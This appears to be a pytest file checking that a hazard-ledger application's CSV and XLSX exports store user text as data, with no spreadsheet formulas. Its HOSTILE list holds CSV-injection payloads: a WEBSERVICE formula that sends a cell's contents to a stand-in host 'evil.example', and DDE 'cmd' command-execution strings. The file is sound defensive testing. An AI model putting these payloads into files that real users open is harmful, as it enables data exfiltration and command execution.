"""Exports are data, never code (issue 10 point 5): the CSV/XLSX writers on hand-made rows.

Read back as a spreadsheet would: openpyxl for XLSX (and the sheet XML itself, for `<f>`), the csv
module for CSV. OWASP's CSV-injection advice: a cell that begins with = + - @ tab or CR is a formula
to a spreadsheet; it must be stored as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from domain.credit_code import make
from projections.export import render
from projections.queries import coverage as coverage_q
from projections.queries import ledger as ledger_q
from projections.queries import rates as rates_q

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=WEBSERVICE("http://evil.example/?"&A1)', '+cmd|" /C calc"!A0', "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def digits_only_code() -> str:
    """A valid unified social credit code of digits only (Excel's favourite victim)."""
    return next(code for n in range(100) if (code := make(f"9133022612345{n:04d}")).isdigit())


CODE = digits_only_code()
HAZARD_ID = "3f1c2a9e-8d4b-4f61-9a8e-2b7d6c5e4f30"


def ledger_rows() -> list[dict]:
    base = {"hazard_id": HAZARD_ID, "hazard_no": "宁海-2026-000123", "credit_code": CODE, "township_name": "跃龙街道",
            "sector_name": "化工", "grade_label": "一般隐患", "source_label": "企业自查",
            "status_label": "已整改", "responsible_person": "安全员 张三", "deadline": date(2026, 5, 31),
            "overdue": False, "agency_name": None, "discovered_on": date(2026, 5, 1),
            "rectified_on": date(2026, 5, 20), "rectification_cost": Decimal("1234.50")}
    return [{**base, "enterprise_name": "西店某化工厂", "description": text} for text in HOSTILE] + [
        {**base, "enterprise_name": "-某五金厂", "description": "#N/A"}]


def rates_rows() -> list[dict]:
    return [{"period": "2026-05", "key": "330226001", "name": "=HYPERLINK(\"http://x\")", "found": 3,
             "rectified": 2, "on_time": 1, "closed": 0, "overdue": 1, "due": 3, "rate": 0.6667,
             "on_time_rate": 0.3333}]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def sheet_formulas(data: bytes) -> list[str]:
    """The sheets whose XML holds a formula element, whatever openpyxl makes of it."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist()
                if n.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[\s>/]", z.read(n))]


def cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def column(sheet, header: str):
    headers = [c.value for c in sheet[2]]  # row 1: the title, scope and date made
    return [row[headers.index(header)] for row in sheet.iter_rows(min_row=3)]


# --- CSV ---------------------------------------------------------------------------------------
def test_csv_text_that_a_spreadsheet_would_run_is_prefixed_and_still_readable():
    rows = csv_rows(render("csv", ledger_q.EXPORT_COLUMNS, ledger_rows(), "隐患台账"))
    assert rows[0] == [header for _, header in ledger_q.EXPORT_COLUMNS]
    assert all(not value.startswith(FORMULA_START) for row in rows for value in row)
    described = [row[rows[0].index("隐患描述")] for row in rows[1:]]
    assert described[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert rows[-1][rows[0].index("企业名称")] == "'-某五金厂"


def test_csv_digit_codes_are_not_turned_into_numbers_and_the_rest_reads_as_before():
    rows = csv_rows(render("csv", ledger_q.EXPORT_COLUMNS, ledger_rows()[:1], "隐患台账"))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["统一社会信用代码"] == "'" + CODE  # not 9.13302E+17
    assert got["隐患编号"] == "宁海-2026-000123" and got["发现日期"] == "2026-05-01"
    assert got["整改资金（元）"] == "1234.50" and got["是否逾期"] == "否" and got["排查机构"] == ""
    rates = csv_rows(render("csv", rates_q.EXPORT_COLUMNS, rates_rows(), "整改率"))
    got = dict(zip(rates[0], rates[1], strict=True))
    assert got["代码"] == "'330226001" and got["名称"] == "'=HYPERLINK(\"http://x\")"
    assert got["发现隐患"] == "3" and got["整改率"] == "66.67%"


def test_csv_quotes_text_so_a_semicolon_never_starts_a_cell():
    data = render("csv", rates_q.EXPORT_COLUMNS, [{**rates_rows()[0], "name": "某厂;=1+1"}], "整改率")
    assert '"某厂;=1+1"' in data.decode("utf-8-sig")


# --- XLSX --------------------------------------------------------------------------------------
def test_xlsx_holds_no_formula_and_the_hostile_text_reads_back_exactly():
    data = render("xlsx", ledger_q.EXPORT_COLUMNS, ledger_rows(), "隐患台账")
    assert sheet_formulas(data) == []
    assert all(c.data_type != "f" for c in cells(data))
    sheet = load_workbook(io.BytesIO(data)).active
    described = column(sheet, "隐患描述")
    xml_read = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads a CR as a line feed
    assert [c.value for c in described] == [*xml_read, "#N/A"]
    assert all(c.data_type == "s" for c in described)  # "#N/A" is text, not Excel's error
    assert all(c.quotePrefix for c in described[:len(HOSTILE)])  # editing the cell keeps it text


def test_xlsx_codes_are_text_dates_are_dates_amounts_and_counts_are_numbers():
    sheet = load_workbook(io.BytesIO(render("xlsx", ledger_q.EXPORT_COLUMNS, ledger_rows(), "隐患台账"))).active
    code, found, cost = (column(sheet, h)[0] for h in ("统一社会信用代码", "发现日期", "整改资金（元）"))
    assert (code.value, code.data_type) == (CODE, "s")
    assert found.is_date and found.value == datetime(2026, 5, 1) and found.number_format == "yyyy-mm-dd"
    assert cost.data_type == "n" and cost.value == 1234.5 and cost.number_format == "#,##0.00"
    assert column(sheet, "是否逾期")[0].value == "否" and column(sheet, "排查机构")[0].value is None
    rates = load_workbook(io.BytesIO(render("xlsx", rates_q.EXPORT_COLUMNS, rates_rows(), "整改率"))).active
    key, found, rate = (column(rates, h)[0] for h in ("代码", "发现隐患", "整改率"))
    assert (key.value, key.data_type) == ("330226001", "s")
    assert (found.value, found.data_type) == (3, "n")
    assert rate.value == 0.6667 and rate.number_format == "0.00%"


def test_xlsx_header_is_bold_frozen_filtered_and_columns_fit():
    rows = ledger_rows()
    sheet = load_workbook(io.BytesIO(render("xlsx", ledger_q.EXPORT_COLUMNS, rows, "隐患台账"))).active
    assert sheet["A1"].value.startswith("隐患台账") and "制表日期：" in sheet["A1"].value and sheet["A1"].font.b
    assert [c.value for c in sheet[2]] == [header for _, header in ledger_q.EXPORT_COLUMNS]
    assert all(c.font.b for c in sheet[2])
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == f"A2:{get_column_letter(len(ledger_q.EXPORT_COLUMNS))}{len(rows) + 2}"
    setup = sheet.page_setup  # A4 landscape, one page wide, the header on every page
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.print_title_rows == "$2:$2"
    widths = {c.value: sheet.column_dimensions[c.column_letter].width for c in sheet[2]}
    assert widths["统一社会信用代码"] >= 18 and widths["发现日期"] >= 10
    assert widths["隐患描述"] > widths["是否逾期"] and max(widths.values()) <= 60


# --- coverage: its own two-sheet workbook ------------------------------------------------------
def coverage_result() -> dict:
    township = {"township": "330226001", "township_name": "跃龙街道", "enterprises": 2, "served": 1,
                "coverage": 0.5, "meets_goal": True, "contracted": 1, "agreement_inspected": 0,
                "self_inspected": 0, "enforcement": 1, "served_by_blacklisted": 0}
    listed = {"enterprise_id": "3302", "name": '=HYPERLINK("http://evil.example","点此")',
              "township_name": "跃龙街道", "sector_name": "化工", "scale_label": "小微",
              "covered": False, "comprehensive": False}
    return {"year": 2026, "townships": [township], "total": {**township, "township_name": "合计"},
            "enforcement_list": [listed]}


def test_coverage_exports_are_data_too():
    data, _ = coverage_q.export(coverage_result(), "csv", "enforcement")
    rows = csv_rows(data)
    assert rows[1][0] == "'" + coverage_result()["enforcement_list"][0]["name"]
    assert rows[1][-1] == "'3302"  # 企业编号: a code, kept as text
    book, _ = coverage_q.export(coverage_result(), "xlsx", "enforcement")
    assert sheet_formulas(book) == [] and all(c.data_type != "f" for c in cells(book))
    townships, listed = load_workbook(io.BytesIO(book)).worksheets
    assert listed["A3"].value == coverage_result()["enforcement_list"][0]["name"]
    assert townships["B3"].value == 2 and townships["D3"].value == 0.5
    assert townships["D3"].number_format == "0.00%"
    assert townships.freeze_panes == listed.freeze_panes == "A3"
